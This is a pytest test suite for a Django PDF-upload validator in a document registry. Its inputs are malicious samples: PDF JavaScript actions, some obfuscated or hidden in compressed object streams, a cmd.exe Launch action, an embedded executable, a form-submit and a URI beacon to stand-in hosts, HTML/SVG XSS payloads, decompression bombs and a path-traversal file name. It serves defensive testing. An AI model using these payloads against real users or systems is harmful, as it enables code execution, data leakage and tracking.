"""An uploaded document is judged by its content: a real PDF within the size limit, with nothing
in it that runs code or reaches out. Each file here is what an attacker, or a careless export,
would send."""

import time
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files import File
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from geodata.documents import Finding, check_pdf
from geodata.models import Document
from tests.factories import make_organisation
from tests.pdf_files import (
    encrypted_pdf,
    good_pdf,
    object_stream,
    pdf,
    pdf_with_object_stream,
    revised,
    stream,
)

SCRIPT = b"<< /S /JavaScript /JS (app.alert('xin chao')) >>"


@pytest.fixture(autouse=True)
def in_english():
    """The messages are compared in English, their source language."""
    with translation.override("en"):
        yield


def rejection(content: bytes, name="chung-chi.pdf") -> list[str]:
    """The messages check_pdf gives for this content under a PDF's name, [] when accepted."""
    try:
        check_pdf(SimpleUploadedFile(name, content, content_type="application/pdf"))
    except ValidationError as error:
        return error.messages
    return []


def says(finding: Finding) -> list[str]:
    return [str(finding.value)]


def link(action: bytes) -> bytes:
    """A link annotation that runs this action when clicked."""
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A " + action + b" >>"


# What is accepted -------------------------------------------------------------------------------


def test_a_pdf_written_by_a_real_library_is_accepted():
    assert rejection(good_pdf()) == []


def test_a_pdf_with_a_link_the_reader_clicks_is_accepted():
    assert rejection(good_pdf(link="https://www.boa.gov.vn/")) == []


def test_a_pdf_whose_objects_are_in_a_compressed_object_stream_is_accepted():
    assert rejection(pdf_with_object_stream(compressed=[b"<< /Title (VILAS 216) >>"])) == []


def test_the_file_is_left_at_its_start_for_storing():
    upload = ContentFile(good_pdf())
    check_pdf(upload)
    assert upload.tell() == 0


# Not a PDF ----------------------------------------------------------------------------------------


def test_html_file_named_pdf_is_rejected():
    page = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>"

    assert rejection(page) == [
        "This file is not a PDF: it starts like an HTML page. Upload the document as a PDF."
    ]


def test_html_that_puts_a_pdf_header_after_a_few_bytes_is_rejected():
    polyglot = b"<html><!-- " + good_pdf() + b" --><script>alert(1)</script></html>"

    assert rejection(polyglot) == [
        "This file is not a PDF: it starts like an HTML page. Upload the document as a PDF."
    ]


@pytest.mark.parametrize(
    ("start", "kind"),
    [
        (b"PK\x03\x04\x14\x00\x06\x00", "a ZIP archive, or a Word or Excel document"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "a JPEG image"),
        (b"MZ\x90\x00\x03\x00", "a program"),
    ],
)
def test_other_kinds_of_file_are_named_in_the_message(start, kind):
    assert rejection(start + bytes(200), name="quyet-dinh.pdf") == [
        f"This file is not a PDF: it starts like {kind}. Upload the document as a PDF."
    ]


def test_a_file_of_unknown_kind_is_rejected():
    assert rejection(b"Giay chung nhan so 216") == [
        "This file is not a PDF: it does not start with %PDF-. Upload the document as a PDF."
    ]


def test_an_empty_file_is_rejected():
    assert rejection(b"") == ["The file is empty. Upload the document as a PDF."]


def test_garbage_after_a_pdf_header_is_rejected():
    assert rejection(b"%PDF-1.7\n" + bytes(range(256)) * 40) == [
        "The PDF is damaged or incomplete and cannot be read. Save or export it again as a PDF "
        "and upload that."
    ]


def test_a_truncated_pdf_is_rejected():
    whole = good_pdf()
    assert "damaged or incomplete" in rejection(whole[: len(whole) // 2])[0]


def test_a_pdf_without_pages_is_rejected():
    empty = pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     ")
    assert rejection(empty) == ["The PDF has no pages. Upload the document with its pages."]


def test_an_encrypted_pdf_is_rejected():
    assert rejection(encrypted_pdf()) == [
        "The PDF is encrypted (it has a password or restrictions). Upload a copy without a "
        "password or restrictions."
    ]


# Size ---------------------------------------------------------------------------------------------


class WatchedFile(File):
    """A file that counts the bytes read from it."""

    bytes_read = 0

    def read(self, size=-1):
        data = self.file.read(size)
        self.bytes_read += len(data)
        return data


def test_a_200_mb_file_is_rejected_by_its_size_without_being_read(tmp_path):
    path = tmp_path / "ho-so.pdf"
    with path.open("wb") as sparse:
        sparse.write(good_pdf())
        sparse.truncate(200 * 1024 * 1024)  # a sparse file: no 200 MB written to disk

    with path.open("rb") as opened:
        upload = WatchedFile(opened, name=path.name)
        with pytest.raises(ValidationError) as rejected:
            check_pdf(upload)

    assert rejected.value.messages == [
        "The file is 200.0\xa0MB; documents may be at most 20.0\xa0MB."
    ]
    assert upload.bytes_read == 0


def test_a_file_larger_than_it_says_is_rejected_after_reading_no_more_than_the_limit(settings):
    settings.DOCUMENT_MAX_BYTES = 1000
    content = good_pdf() + b"%" + b"x" * 5000
    upload = WatchedFile(ContentFile(content))
    upload.size = 10  # what a lying client declares

    with pytest.raises(ValidationError) as rejected:
        check_pdf(upload)

    assert rejected.value.messages[0].endswith("documents may be at most 1000\xa0bytes.")
    assert upload.bytes_read == 1001


def test_the_size_limit_is_a_setting(settings):
    settings.DOCUMENT_MAX_BYTES = 100
    assert rejection(good_pdf()) == [
        f"The file is {len(good_pdf())}\xa0bytes; documents may be at most 100\xa0bytes."
    ]


# What runs code or reaches out --------------------------------------------------------------------


def test_a_pdf_with_javascript_in_its_open_action_is_rejected():
    assert rejection(pdf(catalogue=b"/OpenAction 5 0 R", objects=[SCRIPT])) == says(
        Finding.JAVASCRIPT
    )


def test_the_javascript_message_says_what_to_do():
    assert says(Finding.JAVASCRIPT) == [
        "The PDF contains JavaScript, which is not allowed in the registry: print it to a new "
        "PDF without scripts and upload that."
    ]


def test_a_pdf_with_javascript_in_the_catalogue_names_tree_is_rejected():
    names = b"/Names << /JavaScript << /Names [(init) 5 0 R] >> >>"
    assert rejection(pdf(catalogue=names, objects=[SCRIPT])) == says(Finding.JAVASCRIPT)


def test_a_pdf_with_javascript_when_a_page_opens_is_rejected():
    assert rejection(pdf(page=b"/AA << /O 5 0 R >>", objects=[SCRIPT])) == says(Finding.JAVASCRIPT)


def test_a_pdf_with_a_javascript_link_is_rejected():
    action = b"<< /S /URI /URI (javascript:app.alert(1)) >>"
    assert rejection(pdf(page=b"/Annots [5 0 R]", objects=[link(action)])) == says(
        Finding.JAVASCRIPT
    )


def test_an_obfuscated_javascript_name_is_rejected():
    hidden = b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>"
    assert rejection(pdf(catalogue=b"/OpenAction 5 0 R", objects=[hidden])) == says(
        Finding.JAVASCRIPT
    )


def test_javascript_in_a_compressed_object_stream_is_rejected():
    hidden = pdf_with_object_stream(catalogue=b"/OpenAction 6 0 R", compressed=[SCRIPT])
    assert b"JavaScript" not in hidden  # nothing to see in the raw bytes
    assert rejection(hidden) == says(Finding.JAVASCRIPT)


def test_javascript_in_an_object_stream_under_two_filters_is_rejected():
    hidden = pdf_with_object_stream(
        catalogue=b"/OpenAction 6 0 R", compressed=[SCRIPT], ascii_hex=True
    )
    assert rejection(hidden) == says(Finding.JAVASCRIPT)


def test_javascript_in_an_object_left_out_of_the_cross_reference_table_is_rejected():
    assert rejection(pdf(unlisted=[SCRIPT])) == says(Finding.JAVASCRIPT)


def test_javascript_in_an_old_revision_is_rejected():
    scripted = pdf(catalogue=b"/OpenAction " + SCRIPT)
    cleaned = revised(scripted, 1, b"<< /Type /Catalog /Pages 2 0 R >>")
    assert rejection(cleaned) == says(Finding.JAVASCRIPT)


def test_a_compressed_object_stream_left_out_of_the_table_is_read_by_the_raw_scan():
    orphan = object_stream(9, [b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"])
    assert rejection(pdf(unlisted=[orphan])) == says(Finding.LAUNCH)


def test_a_pdf_with_a_launch_action_is_rejected():
    action = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    assert rejection(pdf(page=b"/Annots [5 0 R]", objects=[link(action)])) == says(Finding.LAUNCH)


def test_a_pdf_with_an_embedded_file_is_rejected():
    names = b"/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 5 0 R] >> >>"
    attachment = [
        b"<< /Type /Filespec /F (hoa-don.exe) /EF << /F 6 0 R >> >>",
        stream(b"/Type /EmbeddedFile", b"MZ\x90\x00"),
    ]
    assert rejection(pdf(catalogue=names, objects=attachment)) == says(Finding.EMBEDDED_FILE)


def test_a_pdf_with_a_file_attachment_annotation_is_rejected():
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS (a.exe) >>"
    assert rejection(pdf(page=b"/Annots [5 0 R]", objects=[annotation])) == says(
        Finding.EMBEDDED_FILE
    )


def test_a_pdf_with_an_xfa_form_is_rejected():
    form = b"/AcroForm << /Fields [] /XFA 5 0 R >>"
    xfa = stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    assert rejection(pdf(catalogue=form, objects=[xfa])) == says(Finding.XFA_FORM)


def test_a_pdf_that_submits_a_form_to_another_address_is_rejected():
    action = b"<< /S /SubmitForm /F << /FS /URL /F (https://thu-thap.example/) >> >>"
    assert rejection(pdf(page=b"/AA << /C 5 0 R >>", objects=[action])) == says(Finding.FORM_DATA)


def test_a_pdf_that_opens_a_file_on_a_network_share_is_rejected():
    action = b"<< /S /GoToR /F (\\\\\\\\10.0.0.5\\\\share\\\\a.pdf) /D [0 /Fit] >>"
    assert rejection(pdf(catalogue=b"/OpenAction 5 0 R", objects=[action])) == says(
        Finding.OTHER_FILE
    )


def test_a_pdf_that_opens_a_web_address_by_itself_is_rejected():
    beacon = b"<< /S /URI /URI (https://theo-doi.example/pixel?id=1) >>"
    assert rejection(pdf(catalogue=b"/OpenAction 5 0 R", objects=[beacon])) == says(
        Finding.OPENS_WEB_ADDRESS
    )


def test_a_web_address_opened_by_a_chain_of_actions_is_rejected():
    first = b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>"
    beacon = b"<< /S /URI /URI (https://theo-doi.example/) >>"
    assert rejection(pdf(catalogue=b"/OpenAction 5 0 R", objects=[first, beacon])) == says(
        Finding.OPENS_WEB_ADDRESS
    )


def test_every_finding_is_reported_at_once():
    names = b"/Names << /JavaScript << /Names [(init) 5 0 R] >> /EmbeddedFiles << /Names [] >> >>"
    assert rejection(pdf(catalogue=names, objects=[SCRIPT])) == [
        *says(Finding.JAVASCRIPT),
        *says(Finding.EMBEDDED_FILE),
    ]


def test_a_name_that_only_looks_dangerous_in_a_text_is_accepted():
    info = b"<< /Title (Quy trinh JS-01 /JSX) /Subject <FEFF002F004A0053> >>"
    assert rejection(pdf(objects=[info], trailer=b"/Info 5 0 R")) == []


# Bounded ------------------------------------------------------------------------------------------


def deflated_zeros(megabytes: int) -> bytes:
    compressor, chunk = zlib.compressobj(9), bytes(1024 * 1024)
    return b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()


def test_a_page_that_decompresses_to_200_mb_is_checked_without_decompressing_it():
    bomb = stream(b"/Filter /FlateDecode", deflated_zeros(200))

    started = time.monotonic()
    assert rejection(pdf(content=bomb)) == []
    assert time.monotonic() - started < 2


def test_an_object_stream_that_decompresses_to_64_mb_is_rejected_quickly():
    bomb = pdf_with_object_stream(compressed=[b"<< >>"], padding=64 * 1024 * 1024)

    started = time.monotonic()
    assert rejection(bomb) == [
        "The PDF is too complex to check. Print it to a new PDF (or save it again with a "
        "smaller size) and upload that."
    ]
    assert time.monotonic() - started < 3


@hypothesis_settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(position=st.integers(min_value=0), replacement=st.binary(min_size=1, max_size=8))
def test_a_damaged_pdf_is_either_accepted_or_rejected_with_a_message(position, replacement):
    original = pdf(catalogue=b"/OpenAction 5 0 R", objects=[b"<< /S /GoTo /D [3 0 R /Fit] >>"])
    at = position % len(original)
    damaged = original[:at] + replacement + original[at + len(replacement) :]

    messages = rejection(damaged)  # anything else than a ValidationError fails the test

    assert all(isinstance(message, str) and message for message in messages)


# The admin ----------------------------------------------------------------------------------------


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def official(admin_client):
    """An administrator in the admin, reading it in English."""
    admin_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return admin_client


def stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def upload_form(organisation, content: bytes, name: str) -> dict:
    return {
        "kind": "certificate",
        "number": "216/2024",
        "title": "Chứng chỉ công nhận VILAS 216",
        "organisation": organisation.pk,
        "public": "on",
        "file": SimpleUploadedFile(name, content, content_type="application/pdf"),
    }


def test_the_admin_rejects_an_html_file_named_pdf_with_the_message_and_stores_nothing(
    official, media_root
):
    organisation = make_organisation()
    page = b"<html><script>fetch('/admin/')</script></html>"

    response = official.post(
        reverse("admin:geodata_document_add"), upload_form(organisation, page, "chung-chi.pdf")
    )

    assert response.status_code == 200
    assert response.context["adminform"].form.errors["file"] == [
        "This file is not a PDF: it starts like an HTML page. Upload the document as a PDF."
    ]
    assert not Document.objects.exists()
    assert stored_files(media_root) == []


def test_the_admin_rejects_a_pdf_with_javascript_and_stores_nothing(official, media_root):
    organisation = make_organisation()
    scripted = pdf(catalogue=b"/OpenAction 5 0 R", objects=[SCRIPT])

    response = official.post(
        reverse("admin:geodata_document_add"), upload_form(organisation, scripted, "qd.pdf")
    )

    assert response.context["adminform"].form.errors["file"] == says(Finding.JAVASCRIPT)
    assert not Document.objects.exists()
    assert stored_files(media_root) == []


def test_the_admin_stores_a_good_pdf_under_its_fingerprint_not_its_name(official, media_root):
    organisation = make_organisation()
    content = good_pdf()

    response = official.post(
        reverse("admin:geodata_document_add"),
        upload_form(organisation, content, "../../Chứng chỉ <script>.pdf"),
    )

    assert response.status_code == 302
    document = Document.objects.get()
    assert document.file.name == f"documents/{document.sha256[:2]}/{document.sha256}.pdf"
    assert [p.relative_to(media_root).as_posix() for p in stored_files(media_root)] == [
        document.file.name
    ]
    assert (media_root / document.file.name).read_bytes() == content


def test_the_admin_links_a_stored_file_to_its_download(official, media_root):
    organisation = make_organisation()
    document = Document(kind="certificate", title="Chứng chỉ VILAS 216", organisation=organisation)
    document.file = ContentFile(good_pdf(), name="scan.pdf")
    document.save()

    page = official.get(reverse("admin:geodata_document_change", args=[document.pk]))

    assert f'href="{reverse("layers:document", args=[document.pk])}"' in page.text
    assert "/media/" not in page.text
    assert 'accept="application/pdf,.pdf"' in page.text  # the file chooser offers PDFs first


def test_a_document_saved_in_code_is_checked_by_full_clean(db, media_root):
    document = Document(kind="other", title="Tệp lạ", organisation=make_organisation())
    document.file = ContentFile(b"<svg onload=alert(1)>", name="a.pdf")

    with pytest.raises(ValidationError) as rejected:
        document.full_clean()

    assert rejected.value.message_dict["file"] == [
        "This file is not a PDF: it starts like an XML or SVG file. Upload the document as a PDF."
    ]
